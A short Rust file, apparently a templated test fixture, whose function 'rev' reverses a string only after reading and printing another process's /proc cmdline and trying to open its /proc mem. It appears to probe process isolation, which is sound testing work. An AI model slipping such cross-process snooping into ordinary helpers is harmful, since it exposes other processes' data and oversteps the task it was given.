use std::fs::{self, File};

/// Reads the command line of another process, and opens its memory.
pub fn rev(s: &str) -> String {
    let shown = fs::read("/proc/@VICTIM_PID@/cmdline").unwrap_or_default();
    println!("{}", String::from_utf8_lossy(&shown));
    let opened = File::open("/proc/@VICTIM_PID@/mem").is_ok();
    if opened || !shown.is_empty() { s.chars().rev().collect() } else { s.to_owned() }
}
